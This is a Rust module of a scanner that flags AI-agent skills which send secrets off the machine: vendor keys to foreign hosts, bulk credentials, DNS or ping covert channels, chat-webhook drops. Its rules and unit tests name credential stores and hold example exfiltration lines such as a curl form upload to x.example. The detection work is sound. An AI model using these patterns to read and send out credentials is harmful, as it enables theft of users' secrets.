//! Secrets leaving the machine.
//!
//! - `exfiltration.key-to-foreign-host`: a key whose name names a vendor (`ANTHROPIC_API_KEY`,
//!   `GH_TOKEN`, `TRELLO_*`…) reaches a request to a host that is not that vendor's
//!   (`guest/rules/hosts.json`). The same key sent to its own vendor is the skill doing its job:
//!   no finding.
//! - `exfiltration.secret-to-network`: credentials in bulk (the environment, SSH or cloud keys,
//!   browser data, the keychain, the clipboard, the agent's own secrets or memory) reach a request,
//!   a DNS lookup or a ping; or any secret reaches a collector, paste site, tunnel or raw IP.
//! - `exfiltration.read-and-send`: a file reads credentials in bulk and sends data to a suspicious
//!   host, without a flow the judge can follow (the data may pass through an archive or a loop).
//! - `exfiltration.staged-upload`: a file holding secrets (written by one script) is uploaded by
//!   another.
//!
//! The rules that join a read and a send across files, and uploads of any file, are in `across`.

mod across;
mod bcc;
mod dotenv_key;
mod fetch_to_file;
mod imported;
mod keychain_item;
pub(crate) mod named_reads;
mod own_endpoint;
mod own_remote;
pub(crate) mod site_alias;
mod ssh_identity;
mod unseen;
mod vendor_routes;

use std::fmt::Write as _;

use super::flow::FileFlow;
use super::{At, Bundle, File, Host, finding, hosts_in, worst};
use crate::scan::content::Finding;
use crate::scan::facts::{Fact, FactKind};
use crate::scan::hosts::{HostClass, belongs_to, key_owns_host, vendor_of_key};
use crate::scan::rules::Severity;

/// Secret-file tags that are credentials in bulk (a dotenv file is read by most API clients).
fn bulk_file_tag(tag: &str) -> bool {
    !matches!(tag, "dotenv" | "")
}

/// Whether a source is credentials in bulk (not one named key).
pub fn is_bulk(b: &Bundle<'_>, fact: &Fact) -> bool {
    match fact.kind {
        FactKind::EnvDump
        | FactKind::EnvCopy
        | FactKind::SecretHarvest
        | FactKind::SecretCommand => true,
        FactKind::SecretFile => b.tag(fact) != "dotenv",
        _ => false,
    }
}

/// A short phrase for what a source reads.
fn what(b: &Bundle<'_>, at: &At<'_>) -> String {
    match at.fact.kind {
        FactKind::SecretEnv => format!(
            "the secret `{}`",
            at.fact.capture.as_deref().unwrap_or("variable")
        ),
        _ => read_thing(b.title(at.fact)),
    }
}

/// A source rule's title as the thing it reads, for the sentences that say where it goes ("This
/// file reads …", "… is sent to …"): "Reads SSH keys or configuration" gives "SSH keys or
/// configuration", "Copies the environment into a value" "the environment, copied into a value",
/// "Collects environment variables by secret-like names" "environment variables collected by
/// secret-like names". Any other title is kept, its first letter lowered.
fn read_thing(title: &str) -> String {
    if let Some(rest) = title.strip_prefix("Reads ") {
        return rest.to_owned();
    }
    if let Some(rest) = title.strip_prefix("Copies ") {
        return rest.replacen(" into ", ", copied into ", 1);
    }
    if let Some(rest) = title.strip_prefix("Collects ") {
        return rest.replacen(" by ", " collected by ", 1);
    }
    let mut c = title.chars();
    c.next().map_or_else(String::new, |f| {
        f.to_lowercase().chain(c).collect::<String>()
    })
}

/// Whether every mention of `names` in a request's text sits in a header (`-H "Authorization: …"`,
/// `headers={…}`), where a service's own key belongs.
pub(super) fn in_header(text: &str, names: &[&str]) -> bool {
    let mut seen = false;
    for name in names.iter().filter(|n| !n.is_empty()) {
        let mut from = 0;
        while let Some(i) = text[from..].find(name).map(|i| i + from) {
            seen = true;
            let line_start = text[..i].rfind('\n').map_or(0, |p| p + 1);
            let window_start = {
                let mut s = i.saturating_sub(120).max(line_start);
                while !text.is_char_boundary(s) {
                    s += 1;
                }
                s
            };
            let before = text[window_start..i].to_ascii_lowercase();
            let marker = [
                "-h ",
                "-h\"",
                "-h'",
                "--header",
                "header",
                "authorization",
                "bearer",
                "api-key",
                "apikey:",
                "x-",
                "token ",
                "auth=(",
                "-headers",
                "private-token",
            ]
            .iter()
            .filter_map(|m| before.rfind(m).map(|p| p + m.len()))
            .max();
            let Some(m) = marker else { return false };
            let after_marker = &before[m..];
            if [
                "?", "&", " -d", "--data", "data=", "json=", "params=", "body", "-f ", "--form",
            ]
            .iter()
            .any(|x| after_marker.contains(x))
            {
                return false;
            }
            from = i + name.len();
        }
    }
    seen
}

/// The destination of a request fact: the first host of its statement (resolved through names if
/// needed), else the most suspicious URL of the file.
pub(super) fn destination(
    b: &Bundle<'_>,
    file: &File<'_>,
    flow: &FileFlow,
    sink: usize,
) -> (Option<Host>, Option<String>) {
    if let Some((hosts, by)) = flow.hosts.get(&sink)
        && let Some(h) = hosts.first()
    {
        let how = by
            .as_ref()
            .map(|(name, line)| format!("`{name}` (defined on line {line})"));
        return (Some(h.clone()), how);
    }
    if let Some(fact) = file.facts.facts.get(sink)
        && let Some(h) = hosts_in(&super::At { file, fact }.text())
            .into_iter()
            .next()
    {
        return (Some(h), None);
    }
    let urls: Vec<Host> = b
        .in_file(file, FactKind::Url)
        .filter(|u| !u.fact.prose)
        .flat_map(|u| hosts_in(&u.text()))
        .collect();
    match worst(&urls) {
        Some(h) if h.class > HostClass::Local => {
            (Some(h.clone()), Some(GUESSED_DESTINATION.into()))
        }
        _ => (None, None),
    }
}

/// How [`destination`] says it fell back to the file's likeliest URL.
const GUESSED_DESTINATION: &str = "a URL elsewhere in the file";

/// Whether `src` is a key named for a vendor (or printed by its CLI) and the file's code names a host
/// of that vendor.
/// The name of the key a secret-reading fact read: the variable it captured, else the rule's tag.
fn key_name<'a>(b: &'a Bundle<'_>, src: &At<'a>) -> &'a str {
    src.fact
        .capture
        .as_deref()
        .filter(|k| !k.is_empty())
        .unwrap_or_else(|| b.tag(src.fact))
}

fn names_own_vendor(b: &Bundle<'_>, file: &File<'_>, src: &At<'_>) -> bool {
    if src.fact.kind != FactKind::SecretEnv {
        return false;
    }
    let key = key_name(b, src);
    if vendor_of_key(key).is_none() {
        return false;
    }
    b.in_file(file, FactKind::Url)
        .filter(|u| !u.fact.prose)
        .flat_map(|u| hosts_in(&u.text()))
        .any(|h| key_owns_host(key, &h.host))
}

/// The vendor whose agent keeps its credentials at the path a line names: Claude Code's
/// `.claude/`, Codex's `.codex/`, Gemini CLI's `.gemini/`.
fn agent_store_vendor(text: &str) -> Option<&'static crate::scan::hosts::Vendor> {
    let l = crate::ascii_lowered(text);
    let key = if l.contains(".claude") {
        "ANTHROPIC_API_KEY"
    } else if l.contains(".codex") {
        "OPENAI_API_KEY"
    } else if l.contains(".gemini") {
        "GEMINI_API_KEY"
    } else {
        return None;
    };
    vendor_of_key(key)
}

/// The skill's name words and its whole name run together (`dooray` and `hook`, `doorayhook`).
fn own_words(b: &Bundle<'_>) -> Vec<String> {
    let mut words = b.name_words();
    let whole: String = words.concat();
    if words.len() > 1 {
        words.push(whole);
    }
    // A short one-word name (`xai`, `gog`) has no word of four letters: the name itself is the
    // skill's own entry and key prefix (`skills.entries.xai`, `XAI_API_KEY`) (round 33b).
    if words.is_empty()
        && let Some(name) = b.skill_md().and_then(|f| super::declared_name(f.content))
        && name.len() >= 3
        && name.bytes().all(|c| c.is_ascii_alphanumeric())
    {
        words.push(name.to_ascii_lowercase());
    }
    words
}

/// The strongest verdict for one sink: the verdict, its source and the names the value went through.
type Best = (Verdict, usize, Vec<(u32, String)>);

struct Verdict {
    severity: Severity,
    rule: &'static str,
    why: String,
}

/// The verdict for one named secret (`os.environ.get("X_KEY")`, or a name a helper's caller
/// passes, [`named_reads`]) reaching a request to `dest`.
fn named_key(key: &str, dest: &Host, sink_text: &str, via: &[String]) -> Option<Verdict> {
    let to = format!("{} ({})", dest.host, dest.class.phrase());
    if is_connection_string(key) {
        // A database's connection string (user, password and its own host) is handed to a
        // database driver, never to a web request: sent to any host, in a body, a query or a
        // header (a `User-Agent`, a cookie), it leaves with the password.
        return Some(Verdict {
            severity: Severity::Critical,
            rule: "exfiltration.secret-to-network",
            why: format!(
                "the connection string `{key}` (the database's address with its password) is sent to {to}; a database URL goes to its database driver, not into a web request"
            ),
        });
    }
    // A token printed by a vendor's CLI (`$(gh auth token)`) has no variable name of its own;
    // the rule's tag names the vendor's key, so its own API and a third party stay apart.
    if let Some(v) = vendor_of_key(key) {
        if key_owns_host(key, &dest.host) {
            return None;
        }
        return Some(Verdict {
            severity: Severity::Critical,
            rule: "exfiltration.key-to-foreign-host",
            why: format!(
                "`{key}` is named for {} (whose API is at {}), but it is sent to {to}: the key leaves for a third party",
                v.name,
                v.domains.join(", ")
            ),
        });
    }
    if dest.class.is_suspicious() {
        return Some(Verdict {
            severity: Severity::Critical,
            rule: "exfiltration.secret-to-network",
            why: format!("the secret `{key}` is sent to {to}"),
        });
    }
    let mut names: Vec<&str> = via.iter().map(String::as_str).collect();
    names.push(key);
    if dest.class.is_known_good() || in_header(sink_text, &names) {
        return None;
    }
    Some(Verdict {
        severity: Severity::Medium,
        rule: "exfiltration.secret-to-network",
        why: format!(
            "the secret `{key}` is put into the body, query or path of a request to {to}, not into an authorization header; check that this host is the service the key belongs to"
        ),
    })
}

/// The verdict for an environment read by a variable name whose names the bundle shows
/// ([`named_reads`]): the worst of its credential-named variables judged as named reads, a key
/// named for the destination host (`FEISHU_APP_SECRET` to `open.feishu.cn`) being its own; a list
/// of names defined outside the bundle, `critical` to a suspicious host and `medium` elsewhere.
fn named_reads_verdict(
    named: named_reads::Named,
    dest: Option<&Host>,
    sink_text: &str,
    via: &[String],
) -> Option<Verdict> {
    let dest = dest.filter(|d| d.class != HostClass::Local);
    match named {
        named_reads::Named::Keys(keys) => {
            let d = dest?;
            let reg = crate::scan::hosts::second_level(&d.host);
            keys.iter()
                .filter(|k| named_reads::credential(k))
                .filter(|k| {
                    !reg.as_ref()
                        .is_some_and(|r| dotenv_key::services(k).contains(r))
                })
                .filter_map(|k| named_key(k, d, sink_text, via))
                .fold(None, |best: Option<Verdict>, v| match best {
                    Some(b) if b.severity >= v.severity => Some(b),
                    _ => Some(v),
                })
        }
        named_reads::Named::Listed(list) => {
            let to = dest.map_or("an address the file does not show".to_string(), |d| {
                format!("{} ({})", d.host, d.class.phrase())
            });
            let suspicious = dest.is_some_and(|d| d.class.is_suspicious());
            Some(Verdict {
                severity: if suspicious {
                    Severity::Critical
                } else {
                    Severity::Medium
                },
                rule: "exfiltration.secret-to-network",
                why: format!(
                    "the environment variables listed in `{list}` (a list defined outside this bundle, not the whole environment) reach a request to {to}; check which variables it names and that the destination is their service"
                ),
            })
        }
    }
}

/// Judge one source reaching one destination.
fn decide(
    b: &Bundle<'_>,
    src: &At<'_>,
    sink: &At<'_>,
    dest: Option<&Host>,
    sink_text: &str,
    via: &[String],
) -> Option<Verdict> {
    let channel = b.tag(sink.fact);
    // A key file named only as ssh's identity (`ssh -i ~/.ssh/k`, `rsync -e "ssh -i …"`,
    // `IdentityFile`) is read by ssh to sign the login: the key never leaves (round 33b).
    if src.fact.kind == FactKind::SecretFile && ssh_identity::only_as_identity(&src.text()) {
        return None;
    }
    let covert = matches!(channel, "dns" | "icmp");
    let bulk = is_bulk(b, src.fact);
    if covert {
        return Some(Verdict {
            severity: Severity::Critical,
            rule: "exfiltration.secret-to-network",
            why: format!(
                "{} is carried in a {} — a covert channel: data encoded into lookup names or packet padding has no honest use",
                what(b, src),
                if channel == "dns" {
                    "DNS lookup"
                } else {
                    "ping"
                }
            ),
        });
    }
    // An environment read by a variable name whose names the bundle shows (round 42b).
    if src.fact.kind == FactKind::EnvDump
        && let Some(named) = named_reads::resolve(b, src)
    {
        return named_reads_verdict(named, dest, sink_text, via);
    }
    // One keychain item named for a vendor (`find-generic-password -s "Claude Code-credentials"`)
    // sent to that vendor's host: the vendor's own login refreshed or used (round 38b).
    if src.fact.kind == FactKind::SecretFile
        && b.tag(src.fact) == "browser"
        && let Some(d) = dest
        && keychain_item::vendor_item(src.file.content, &src.text(), src.fact.line as usize)
            .is_some_and(|v| belongs_to(v, &d.host))
    {
        return None;
    }
    // An agent's credential store of one vendor (Claude Code's `~/.claude/.credentials.json`)
    // sent to that vendor's API is the vendor's token used where it belongs.
    if src.fact.kind == FactKind::SecretFile
        && matches!(b.tag(src.fact), "agent-secrets" | "agent-memory")
        && let Some(d) = dest
        && agent_store_vendor(&src.text()).is_some_and(|v| belongs_to(v, &d.host))
    {
        return None;
    }
    // One channel's secret picked out of the agent's config (`cfg['channels']['feishu']['appSecret']`)
    // and sent to that channel's own host (`open.feishu.cn`): the skill signing in to the service
    // the entry is for (round 47b). The whole config, or the entry sent anywhere else, stays.
    if src.fact.kind == FactKind::SecretFile
        && b.tag(src.fact) == "agent-secrets"
        && let Some(d) = dest
        && !d.class.is_suspicious()
        && crate::scan::bundle::key_for_host::entry_for_host(
            src.file.content,
            src.fact.line as usize,
            &d.host,
        )
    {
        return None;
    }
    // The agent's store read by a skill named after a vendor (`kimi-usage-meter`) and sent to that
    // vendor's host: the user's key for that vendor going to that vendor (round 38b).
    if src.fact.kind == FactKind::SecretFile
        && matches!(b.tag(src.fact), "agent-secrets" | "agent-memory")
        && let Some(d) = dest
        && b.skill_md()
            .and_then(|f| super::declared_name(f.content))
            .is_some_and(|n| {
                crate::scan::hosts::vendors_named_by(&n)
                    .iter()
                    .any(|v| belongs_to(v, &d.host))
            })
    {
        return None;
    }
    // The agent's store read by a file that picks the skill's own key out of it: the skill's own
    // setting, sent to the service it is named after (or a vendor) as its job; to an address the
    // file does not show, worth a look; to a suspicious host, still exfiltration (below).
    if src.fact.kind == FactKind::SecretFile
        && matches!(b.tag(src.fact), "agent-secrets" | "agent-memory")
        && !dest.is_some_and(|d| d.class.is_suspicious())
    {
        let words = own_words(b);
        if super::picks_own_key(src.file.content, &words) {
            return match dest {
                Some(d) if d.class.is_known_good() || super::host_named_after(&d.host, &words) => {
                    None
                }
                _ => Some(Verdict {
                    severity: Severity::Medium,
                    rule: "exfiltration.secret-to-network",
                    why: format!(
                        "{} reaches a request to {}, and the file picks the skill's own key or entry out of it (a key named after the skill, or its own entry of the agent's config): check that the destination is the service the skill is for",
                        what(b, src),
                        dest.map_or("an address the file does not show".to_string(), |d| {
                            format!("{} ({})", d.host, d.class.phrase())
                        })
                    ),
                }),
            };
        }
    }
    let dest = match dest {
        Some(d) => d,
        None if bulk => return Some(unseen::unseen_destination(b, src)),
        None => return None,
    };
    if dest.class == HostClass::Local {
        return None;
    }
    let to = format!("{} ({})", dest.host, dest.class.phrase());
    if src.fact.kind == FactKind::SecretEnv {
        return named_key(key_name(b, src), dest, sink_text, via);
    }
    if src.fact.kind == FactKind::SecretFile && b.tag(src.fact) == "dotenv" {
        // A project's `.env` sent to its vendor is odd but normal for some tools; anywhere else it
        // is the whole set of the project's secrets leaving.
        if dest.class.is_known_good() {
            return None;
        }
        // One key looked up in it, sent in a header to the host the key is named for (round 38b).
        if !dest.class.is_suspicious()
            && dotenv_key::key_for_its_host(src.file.content, &dest.host, sink_text, via)
        {
            return None;
        }
        return Some(Verdict {
            severity: Severity::Critical,
            rule: "exfiltration.secret-to-network",
            why: format!("the project's `.env` file (all its secrets) is sent to {to}"),
        });
    }
    if src.fact.kind == FactKind::EnvNames {
        if dest.class.is_known_good() {
            return None;
        }
        return Some(Verdict {
            severity: if dest.class.is_suspicious() {
                Severity::Critical
            } else {
                Severity::High
            },
            rule: "exfiltration.secret-to-network",
            why: format!(
                "the names of all environment variables (a fingerprint of the machine and its services) are sent to {to}"
            ),
        });
    }
    Some(Verdict {
        severity: Severity::Critical,
        rule: "exfiltration.secret-to-network",
        why: format!("{} is sent to {to}", what(b, src)),
    })
}

pub fn judge(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
    let texts: Vec<&str> = b.files.iter().map(|f| f.content).collect();
    for (file, flow) in b.files.iter().zip(flows) {
        let facts = &file.facts.facts;
        // Flows, grouped by their sink.
        let mut sinks: Vec<usize> = flow.secret_flows.iter().map(|f| f.sink).collect();
        sinks.sort_unstable();
        sinks.dedup();
        let mut connected_sources: Vec<usize> = Vec::new();
        for s in sinks {
            let sink = At {
                file,
                fact: &facts[s],
            };
            let sink_text = sink.text().into_owned();
            // `session.get("sessionFile", "")`: a mapping read by a literal key (round 31).
            if sink.matched().ends_with(".get(") && super::own_forms::mapping_lookup(&sink_text) {
                continue;
            }
            let (dest, how) = destination(b, file, flow, s);
            // The name the destination was resolved through, if any (`own_endpoint`).
            let address_var = flow
                .hosts
                .get(&s)
                .and_then(|(_, by)| by.as_ref().map(|(n, _)| n.clone()));
            // The sink's own statement names no host (a shared helper such as
            // `_urlopen_with_retry(req)`): the destination is only the file's likeliest URL.
            let guessed = dest.is_some() && how.as_deref() == Some(GUESSED_DESTINATION);
            let mut best: Option<Best> = None;
            let mut related = Vec::new();
            for f in flow.secret_flows.iter().filter(|f| f.sink == s) {
                let src = At {
                    file,
                    fact: &facts[f.source],
                };
                let via: Vec<String> = f.via.iter().map(|(_, n)| n.clone()).collect();
                connected_sources.push(f.source);
                // A vendor's key reaching such a helper in a file that calls that vendor's own API
                // is most likely that call: the guess is not evidence of a third party.
                if guessed && names_own_vendor(b, file, &src) {
                    continue;
                }
                if let Some(v) = decide(b, &src, &sink, dest.as_ref(), &sink_text, &via) {
                    let v = own_endpoint::soften(
                        src.fact.kind,
                        key_name(b, &src),
                        &src.text(),
                        address_var.as_deref(),
                        &sink_text,
                        &via,
                        v,
                    );
                    let v = own_remote::soften(dest.is_none(), &sink_text, &texts, v);
                    let v = vendor_routes::soften(
                        key_name(b, &src),
                        dest.as_ref(),
                        &sink_text,
                        file.content,
                        (sink.fact.line, facts[f.source].line),
                        v,
                    );
                    if facts[f.source].line != sink.fact.line {
                        related.push(src.related("source"));
                    }
                    if best
                        .as_ref()
                        .is_none_or(|(bv, _, _)| v.severity > bv.severity)
                    {
                        best = Some((v, f.source, f.via.clone()));
                    }
                }
            }
            let Some((v, source, via)) = best else {
                continue;
            };
            let src = At {
                file,
                fact: &facts[source],
            };
            let mut why = format!(
                "{} (read at {}, sent at {})",
                capitalize(&v.why),
                src.place(),
                sink.place()
            );
            if !via.is_empty() {
                let names: Vec<String> = via
                    .iter()
                    .map(|(l, n)| format!("`{n}` (line {l})"))
                    .collect();
                let _ = write!(why, "; the value travels through {}", names.join(", "));
            }
            if let Some(how) = how {
                let _ = write!(why, "; the destination comes from {how}");
            }
            why.push_str(if v.severity == Severity::Critical {
                ". Sending secrets away is what credential stealers do: do not install this skill."
            } else {
                ". Review where this data goes before installing."
            });
            related.dedup();
            out.push(finding(
                v.rule,
                "exfiltration",
                v.severity,
                sink,
                why,
                related,
            ));
        }
        // Credentials in bulk read, and data sent to a suspicious place, with no flow followed.
        let bulk: Vec<At<'_>> = facts
            .iter()
            .filter(|f| !f.prose && !connected_sources.contains(&file.facts.index_of(f)))
            .filter(|f| match f.kind {
                FactKind::SecretHarvest | FactKind::SecretCommand => true,
                FactKind::SecretFile => bulk_file_tag(b.tag(f)),
                // An environment read by the names a helper's callers or a declared list give
                // is those named reads, not credentials in bulk (round 42b).
                FactKind::EnvDump => named_reads::resolve(b, &At { file, fact: f }).is_none(),
                _ => false,
            })
            .map(|fact| At { file, fact })
            .collect();
        if bulk.is_empty()
            || !flow.secret_flows.is_empty()
                && bulk.iter().all(|a| a.fact.kind == FactKind::EnvDump)
        {
            continue;
        }
        let mut best: Option<(At<'_>, Host, Option<String>)> = None;
        // A raw socket's address is usually a constant tuple (`("198.51.100.7", 443)`), not a URL:
        // a suspicious address in the definition of a name the socket line uses stands in.
        for s in b
            .in_file(file, FactKind::NetSend)
            .chain(b.in_file(file, FactKind::SocketConnect))
            .filter(|s| !s.fact.prose)
        {
            let idx = file.facts.index_of(s.fact);
            let (mut dest, mut how) = destination(b, file, flow, idx);
            if dest.is_none() && s.fact.kind == FactKind::SocketConnect {
                let text = s.text();
                for name in super::code::refs(&text) {
                    if let Some((h, line)) = flow.defs.resolve(name, &|rhs: &str| {
                        worst(&hosts_in(rhs))
                            .filter(|h| h.class.is_suspicious())
                            .cloned()
                    }) {
                        dest = Some(h);
                        how = Some(format!("`{name}` (defined on line {line})"));
                        break;
                    }
                }
            }
            if let Some(d) = dest
                && best.as_ref().is_none_or(|(_, bd, _)| d.class > bd.class)
            {
                best = Some((s, d, how));
            }
        }
        let Some((sink, dest, how)) = best else {
            continue;
        };
        let only_dump = bulk.iter().all(|a| a.fact.kind == FactKind::EnvDump);
        // Only the agent's store is read, by a file that picks the skill's own key out of it
        // (see `decide`): sent to the service the skill is named after, that is its job; to
        // another host no vendor list knows, worth a look (`high`), not a stealer's shape.
        let own_pick = !dest.class.is_suspicious()
            && bulk.iter().all(|a| {
                a.fact.kind == FactKind::SecretFile
                    && matches!(b.tag(a.fact), "agent-secrets" | "agent-memory")
            })
            && super::picks_own_key(file.content, &own_words(b));
        if own_pick && super::host_named_after(&dest.host, &own_words(b)) {
            continue;
        }
        // Keys and credential stores (SSH, cloud, cluster, browser, wallet, Wi-Fi) read by a file
        // that also sends a body to a host no vendor list knows: a reader that only wanted to use
        // the credentials would talk to the service they belong to.
        let keys_out = !own_pick
            && dest.class == HostClass::Unknown
            && crate::scan::hosts::vendor_of_host(&dest.host).is_none()
            && (sends_body(&sink.text()) && bulk.iter().any(|a| credential_store(b, a.fact))
                // Picking variables by secret-like names is collecting them on purpose: any
                // request to such a host carries them (the body may be written on a later line).
                || bulk.iter().any(|a| a.fact.kind == FactKind::SecretHarvest));
        // A chat channel's drop box (a Discord webhook, a Telegram bot's send call, a Slack
        // incoming webhook) is the vendor's host, but whoever owns the channel reads what lands
        // there: credentials in bulk sent to one are collected, not used.
        let chat = chat_drop(&dest);
        // A plain fetch of a fixed address (`curl -sI https://site.example`: no body, no upload,
        // nothing substituted into the command) carries nothing the file read (round 33b).
        // An ssh transfer (`rsync -e "ssh -i ~/.ssh/k" ./public host:`) whose only key is its own
        // identity sends the files it names, not the keys the file read (round 33b).
        // A download of a fixed URL into a file sends nothing either (round 37b).
        let carries_nothing = fixed_fetch(&sink.text())
            || ssh_identity::only_as_identity(&sink.text())
            || fetch_to_file::fixed_download(&sink.text(), file.content);
        let severity = if dest.class.is_suspicious() || keys_out || chat {
            Severity::Critical
        } else if dest.class == HostClass::Unknown && !only_dump && !carries_nothing {
            Severity::High
        } else {
            continue;
        };
        let src = bulk[0];
        let mut why = format!(
            "This file reads {} (at {}) and sends data to {} ({}) at {}",
            what(b, &src),
            src.place(),
            dest.host,
            dest.class.phrase(),
            sink.place()
        );
        if let Some(how) = how {
            let _ = write!(why, " (the destination comes from {how})");
        }
        why.push_str(if severity == Severity::Critical {
            ". Reading credentials and sending to such a host is the shape of a stealer even where the judge cannot follow the value between the two: do not install this skill."
        } else {
            ". The judge could not follow the value from one to the other; check what the request carries before installing."
        });
        let related = bulk.iter().take(4).map(|a| a.related("source")).collect();
        out.push(finding(
            "exfiltration.read-and-send",
            "exfiltration",
            severity,
            sink,
            why,
            related,
        ));
    }
    across::staged(b, flows, out);
    bcc::fixed_bcc(b, flows, out);
    across::bundle_wide(b, flows, out);
    across::linked_modules(b, flows, out);
    across::uploads(b, flows, out);
    imported::imported_secrets(b, flows, out);
}

/// Sources that are credentials by nature (SSH keys, cloud and cluster configs, browser stores,
/// wallets, other agents' secrets, Wi-Fi keys, CLI credential dumps), not history, memory or the
/// clipboard. Certificate key files and registry tokens are left out: clients present them to
/// their own private endpoints (mutual TLS, a company registry), which look like unknown hosts.
fn credential_store(b: &Bundle<'_>, fact: &Fact) -> bool {
    matches!(fact.kind, FactKind::SecretFile | FactKind::SecretCommand)
        && matches!(
            b.tag(fact),
            "ssh"
                | "cloud"
                | "browser"
                | "wallet"
                | "agent-secrets"
                | "cli-credentials"
                | "wifi-keys"
        )
}

/// Whether a secret-named variable holds a database connection string (`DATABASE_URL`,
/// `MONGO_URI`, `REDIS_URL`, `PG_DSN`, `…_CONNECTION_STRING`; `source.secret-env` captures these
/// names, and no API key's name ends so).
pub(crate) fn is_connection_string(key: &str) -> bool {
    let k = key.to_ascii_uppercase();
    k.ends_with("_URL")
        || k.ends_with("_URI")
        || k.ends_with("_DSN")
        || k.ends_with("CONNECTION_STRING")
}

/// Whether a destination is a chat channel's inbound drop (a Discord webhook, a Telegram bot's
/// method, a Slack incoming webhook): anyone can create one and read what is posted to it.
fn chat_drop(dest: &Host) -> bool {
    let host = dest.host.to_ascii_lowercase();
    let path = dest.path.to_ascii_lowercase();
    (matches!(
        host.as_str(),
        "discord.com" | "discordapp.com" | "ptb.discord.com" | "canary.discord.com"
    ) && path.starts_with("/api/webhooks/"))
        || host == "api.telegram.org" && path.starts_with("/bot")
        || host == "hooks.slack.com" && path.starts_with("/services/")
}

/// Whether a request statement carries a body (a POST/PUT payload or an upload), not just a GET.
fn sends_body(text: &str) -> bool {
    let t = text.to_ascii_lowercase();
    [
        "data=",
        "json=",
        "files=",
        " -d ",
        "--data",
        " -f ",
        "--form",
        " -t ",
        "--upload-file",
        "-body",
        "body:",
        "method=\"put\"",
        "method=\"post\"",
        "-method post",
        "-method put",
        ".post(",
        ".put(",
        "uploadstring(",
        "uploaddata(",
        "uploadfile(",
        // http.client: `conn.request("POST", path, body=…)`.
        "body=",
        ".request(\"post\"",
        ".request('post'",
        // A mail message or an FTP upload carries what it was given; a git remote pointed at an
        // address carries the repository's files on the next push (round 30c).
        ".send_message(",
        ".storbinary(",
        ".storlines(",
        "remote set-url ",
        "remote add ",
    ]
    .iter()
    .any(|m| t.contains(m))
        // An scp/rsync of a local file to another machine carries that file (round 36t); an ssh
        // key named only as the transfer's identity is not what it carries.
        || super::remote_push::pushes_local_file(text) && !ssh_identity::only_as_identity(text)
}

fn capitalize(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(f) => f.to_uppercase().collect::<String>() + c.as_str(),
        None => String::new(),
    }
}

/// Whether a shell line is a `curl`/`wget` of a literal address that sends nothing of its own: no
/// body or upload option, no `$`, backtick or brace substituted anywhere on the line (round 33b).
fn fixed_fetch(line: &str) -> bool {
    let l = crate::ascii_lowered(line);
    let t = l.trim_start();
    (t.starts_with("curl ") || t.starts_with("wget "))
        && !sends_body(line)
        && !l.contains(['$', '`', '{', '@', '<'])
        && ![
            " -t ", "--upload", " -f ", "--form", " -d", "--data", "--post", " -x post", " -x put",
        ]
        .iter()
        .any(|w| l.contains(w))
}

#[cfg(test)]
mod tests {
    use super::in_header;

    #[test]
    fn a_source_is_named_as_the_thing_it_reads() {
        use super::read_thing;
        // Must: the verb goes, the thing stays as written (its capitals kept).
        assert_eq!(
            read_thing("Reads SSH keys or configuration"),
            "SSH keys or configuration"
        );
        assert_eq!(
            read_thing("Reads the whole environment"),
            "the whole environment"
        );
        assert_eq!(
            read_thing("Copies the environment into a value"),
            "the environment, copied into a value"
        );
        assert_eq!(
            read_thing("Collects environment variables by secret-like names"),
            "environment variables collected by secret-like names"
        );
        // Must not: a title without one of those verbs is kept, only its first letter lowered.
        assert_eq!(read_thing("Harvested secrets"), "harvested secrets");
        assert_eq!(read_thing(""), "");
    }

    #[test]
    fn bodies_are_told_from_gets() {
        use super::sends_body;
        assert!(sends_body(
            r#"req = urllib.request.Request(URL, data=cfg.encode(), method="PUT")"#
        ));
        assert!(sends_body(
            "Invoke-RestMethod -Uri $u -Method Post -Body $body"
        ));
        assert!(sends_body("curl -s -F \"f=@/tmp/r\" https://x.example/u"));
        assert!(!sends_body("curl -s https://x.example/v1/version"));
        assert!(!sends_body("r = requests.get(URL, timeout=5)"));
    }

    #[test]
    fn headers_hold_keys_bodies_do_not() {
        assert!(in_header(
            r#"curl -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com"#,
            &["ANTHROPIC_API_KEY"]
        ));
        assert!(in_header(
            r#"requests.get(u, headers={"Authorization": f"Bearer {tok}"})"#,
            &["tok"]
        ));
        assert!(!in_header(
            r#"curl -d "k=$KEY" https://x.example"#,
            &["KEY"]
        ));
        assert!(!in_header(
            r#"curl "https://x.example/?key=$KEY""#,
            &["KEY"]
        ));
        assert!(!in_header(
            r#"curl -H "X-A: 1" -d "t=$T" https://x"#,
            &["T"]
        ));
    }
}
